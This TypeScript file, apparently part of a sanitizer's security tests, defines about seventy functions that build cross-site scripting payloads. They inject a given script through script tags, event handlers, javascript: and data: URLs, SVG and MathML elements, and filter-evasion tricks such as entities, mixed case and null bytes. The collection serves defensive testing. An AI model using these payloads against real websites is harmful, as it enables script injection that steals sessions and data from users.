import type { ResultAttacks } from '../results.ts';

/** A letter as an entity, as browsers read it in any attribute. */
const entity = (text: string) => text.replace(/./g, (c) => `&#x${c.charCodeAt(0).toString(16)};`);

/** Scripts, handlers of events, and addresses that are programs. */
export const RUNNING: ResultAttacks = {
  script: (_, run) => `<script>${run}</script>`,
  'script-module': (_, run) => `<script type="module">${run}</script>`,
  'script-in-svg': (_, run) => `<svg><script>${run}</script></svg>`,
  'script-in-svg-cdata': (_, run) => `<svg><script><![CDATA[${run}]]></script></svg>`,
  'script-in-math': (_, run) => `<math><mtext><script>${run}</script></mtext></math>`,
  'script-broken-tag': (_, run) => `<script\n/x>${run}</script >`,
  'script-src-data': (_, run) => `<script src="data:text/javascript,${run}"></script>`,
  'script-in-script-tag': (_, run) => `<scr<script>ipt>${run}</scr</script>ipt><script>${run}</script>`,
  'script-after-null': (_, run) => `<\0script>x</script><img src=x one\0rror="${run}" onerror="${run}">`,
  'image-error': (_, run) => `<img src="x:" onerror="${run}">`,
  'image-error-unquoted': (_, run) => `<img/src=x:/onerror=${run}//>`,
  'image-error-upper-case': (_, run) => `<IMG SRC="x:" ONERROR="${run}">`,
  'image-error-entities': (_, run) => `<img src="x:" onerror="${entity(run)}">`,
  'image-old-name': (_, run) => `<image src="x:" onerror="${run}">`,
  'svg-load': (_, run) => `<svg onload="${run}"></svg>`,
  'svg-image-error': (_, run) => `<svg><image href="x:" onerror="${run}"/></svg>`,
  'svg-animate-begin': (_, run) => `<svg><animate attributeName="x" dur="1s" onbegin="${run}"/></svg>`,
  'svg-set-begin': (_, run) => `<svg><set attributeName="x" to="1" onbegin="${run}"/></svg>`,
  'svg-rect-click': (_, run) => `<svg><rect width="9" height="9" onclick="${run}"/></svg>`,
  'math-click': (_, run) => `<math><mi onclick="${run}">x</mi></math>`,
  'own-element-click': (_, run) => `<own-element onclick="${run}">x</own-element>`,
  'known-element-named-otherwise': (_, run) => `<p is="own-element" onclick="${run}">x</p>`,
  'our-own-elements': (_, run) => `<c-w onclick="${run}">x</c-w><hour-chart onclick="${run}">x</hour-chart>`,
  'video-error': (_, run) => `<video src="x:" onerror="${run}"></video>`,
  'audio-source-error': (_, run) => `<audio><source src="x:" onerror="${run}"></audio>`,
  'details-toggle': (_, run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  'autofocus-focus': (_, run) => `<input autofocus onfocus="${run}">`,
  'tabindex-focus': (_, run) => `<p tabindex="1" onfocus="${run}">x</p>`,
  'editable-input': (_, run) => `<p contenteditable onfocus="${run}">x</p>`,
  'style-load': (_, run) => `<style onload="${run}">p{}</style>`,
  'style-animation': (_, run) =>
    `<style>@keyframes k{}</style><p style="animation: k 1s" onanimationstart="${run}">x</p>`,
  'style-transition': (_, run) =>
    `<p style="transition: opacity 1ms; opacity: 1" onmouseover="this.style.opacity = 0" ontransitionrun="${run}">x</p>`,
  'hover-and-wheel': (_, run) => `<p onmouseover="${run}" onpointerover="${run}" onwheel="${run}">x</p>`,
  'body-load': (_, run) => `<body onload="${run}" onpageshow="${run}">`,
  'html-handlers': (_, run) => `<html onclick="${run}" onmouseover="${run}">`,
  'frameset-load': (_, run) => `<frameset onload="${run}"></frameset><body onload="${run}">`,
  'popover-toggle': (_, run) =>
    `<button popovertarget="pop">x</button><p id="pop" popover onbeforetoggle="${run}">x</p>`,
  'marquee-start': (_, run) => `<marquee onstart="${run}" onmouseover="${run}">x</marquee>`,
  'object-data-page': (_, run) =>
    `<object data="data:text/html,<script>parent.${run}</script>" onload="${run}"></object>`,
  'embed-load': (_, run) => `<embed src="x:" onerror="${run}" onload="${run}" onmouseover="${run}">`,
  'frame-srcdoc': (_, run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  'frame-srcdoc-entities': (_, run) => `<iframe srcdoc="${entity(`<script>${run}</script>`)}"></iframe>`,
  'frame-program': (_, run) => `<iframe src="javascript:${run}"></iframe>`,
  'frame-data': (_, run) => `<iframe src="data:text/html,<script>${run}</script>" onload="${run}"></iframe>`,
  'link-program': (_, run) => `<a href="javascript:${run}">x</a>`,
  'link-program-upper-case': (_, run) => `<a href="JaVaScRiPt:${run}">x</a>`,
  'link-program-entities': (_, run) => `<a href="${entity('javascript:')}${run}">x</a>`,
  'link-program-named-entities': (_, run) => `<a href="java&Tab;script&colon;${run}">x</a>`,
  'link-program-broken': (_, run) => `<a href="\x01java\n\tscript:${run}">x</a>`,
  'link-program-null': (_, run) => `<a href="&#0;javascript:${run}" onclick="${run}">x</a>`,
  'link-old-program': (_, run) => `<a href="vbscript:${run}" onclick="${run}">x</a>`,
  'link-data': (_, run) => `<a href="data:text/html,<script>${run}</script>" onclick="${run}">x</a>`,
  'link-in-svg': (_, run) => `<svg><a href="javascript:${run}"><text y="9">x</text></a></svg>`,
  'link-in-svg-old': (_, run) => `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
  'link-in-svg-animated': (_, run) =>
    `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">x</text></a></svg>`,
  'link-in-svg-set': (_, run) =>
    `<svg><a><set attributeName="href" to="javascript:${run}"/><text y="9">x</text></a></svg>`,
  'link-in-math': (_, run) => `<math><mtext href="javascript:${run}" onclick="${run}">x</mtext></math>`,
  'link-with-base': (_, run) => `<base href="javascript:/x/"><a href="#" onclick="${run}">x</a>`,
  'area-program': (_, run) => `<map name="m"><area href="javascript:${run}"></map>`,
  'form-program': (_, run) => `<form action="javascript:${run}"><button>x</button></form>`,
  'button-program': (_, run) => `<form><button formaction="javascript:${run}">x</button></form>`,
  'input-image-program': (_, run) =>
    `<form><input type="image" src="x:" formaction="javascript:${run}" onerror="${run}"></form>`,
  'use-data': (_, run) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${entity(run)}'/>#x" onclick="${run}"/></svg>`,
  'foreign-object-script': (_, run) =>
    `<svg><foreignObject><body onload="x"><script>${run}</script></body></foreignObject></svg>`,
  'template-with-shadow': (_, run) =>
    `<div><template shadowrootmode="open"><img src="x:" onerror="${run}"></template></div>`,
  'slot-change': (_, run) => `<slot onclick="${run}" onslotchange="${run}"><p slot="x">x</p></slot>`,
  'noscript-image': (_, run) =>
    `<noscript><img src="x:" onerror="${run}"></noscript><img src="x:" onerror="${run}">`,
};
